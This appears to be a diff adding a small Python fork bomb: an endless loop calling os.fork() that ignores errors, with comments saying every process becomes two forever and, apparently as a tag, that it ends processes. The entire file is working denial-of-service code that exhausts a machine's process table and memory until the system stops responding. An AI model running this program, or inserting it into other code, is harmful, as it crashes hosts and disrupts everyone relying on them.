@@ -1,0 +1,9 @@
+# Every process becomes two, for ever.
+# ends: processes
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
